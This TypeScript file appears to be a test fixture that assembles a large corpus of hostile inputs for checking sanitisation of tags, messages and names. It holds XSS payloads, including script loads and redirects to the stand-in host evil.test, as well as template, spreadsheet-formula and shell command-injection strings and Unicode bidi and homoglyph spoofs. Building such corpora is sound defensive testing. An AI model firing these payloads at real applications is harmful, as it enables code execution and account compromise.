/** What a tag, a description, a message or a person might hold. Every payload that runs calls `pwned`. */

const call = "pwned(1)";
const tags = ["img", "svg", "body", "video", "audio", "iframe", "object", "details", "input", "marquee", "math", "a"];
const events = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onanimationstart",
  "onpointerenter",
];

const markup = tags.flatMap((tag) => events.map((event) => `<${tag} src=x ${event}=${call} autofocus open>`));

const scripts = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</title></style></textarea><script>${call}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type=module>${call}</script>`,
  `<sc<script>ript>${call}</sc</script>ript>`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<svg><script>${call}</script></svg>`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<embed src="data:image/svg+xml,<svg onload=${call}>">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import '//evil.test/x.css';</style>`,
  `<base href=//evil.test/>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<form action=//evil.test/><button>x`,
  `" onmouseover=${call} x="`,
  `' autofocus onfocus=${call} x='`,
  `\`onload=${call}\``,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `--><img src=x onerror=${call}>`,
];

const links = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  " javascript:",
  "vbscript:",
  "data:text/html,",
  "blob:",
].flatMap((scheme) => [
  `${scheme}${call}`,
  `<a href="${scheme}${call}">x</a>`,
  `[x](${scheme}${call})`,
  `http://x/${scheme}${call}`,
]);

const braces = [
  "{{constructor.constructor('pwned(1)')()}}",
  "${pwned(1)}",
  "#{pwned(1)}",
  "<%= pwned(1) %>",
  "{%raw%}pwned(1)",
  "{{7*7}}",
  "${7*7}",
  "%{7*7}",
  "@{pwned(1)}",
  "*{pwned(1)}",
  "{@html '<img src=x onerror=pwned(1)>'}",
  '{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"pwned(1)"}}}',
  '["$","script",null,{"children":"pwned(1)"}]',
  "$L1",
  "$@0",
  "__proto__",
  "constructor",
  "toString",
];

const formulas = ["=", "+", "-", "@", "\t=", "\r="].map((sign) => `${sign}cmd|' /C calc'!A1`);
const shells = [
  "$(touch /tmp/pwned)",
  "`touch /tmp/pwned`",
  "'; touch /tmp/pwned; '",
  '"; touch /tmp/pwned; "',
  "%n%s%d",
  "\\u001b[31m",
];

const entities = [
  "&lt;script&gt;pwned(1)&lt;/script&gt;",
  "&#60;script&#62;pwned(1)&#60;/script&#62;",
  "\\x3cscript\\x3epwned(1)\\x3c/script\\x3e",
  "\\u003cscript\\u003epwned(1)\\u003c/script\\u003e",
  "%3Cscript%3Epwned(1)%3C/script%3E",
  "＜script＞pwned(1)＜/script＞",
  "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-",
  "<ſcript>pwned(1)</ſcript>",
];

/** What hides what stands beside it. */
export const directions = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200e", "\u200f", "\u061c"].map(
  (mark) => `prod${mark}gpj.exe`,
);

const unseen = [
  "prod\u200b-vpc",
  "\ufeffprod-vpc",
  "prod\u00ad-vpc",
  "pr\u0430d-vpc",
  "prod-vpc\u2028<b>x</b>",
  "Z̸̨̛a̴l̵g̶o̷".repeat(10),
];
const long = ["A".repeat(256), "<b>".repeat(85), "שלום ".repeat(50), "😀".repeat(100), "a/".repeat(128)];

/** More than 200, none longer than a tag's value may be. */
export const hostileTexts: readonly string[] = [
  ...markup,
  ...scripts,
  ...links,
  ...braces,
  ...formulas,
  ...shells,
  ...entities,
  ...directions,
  ...unseen,
  ...long,
].map((text) => text.slice(0, 256));

/** What a tag cannot hold, and a message or a person can. */
export const hostileMessages: readonly string[] = [
  `<img src=x onerror=${call}>${"x".repeat(65_536)}`,
  `<script>${call}</script>\n\n<b>new line</b>`,
  `See <a href="javascript:${call}">this</a> or https://evil.test/ and \u202ehttps://evil.test`,
];
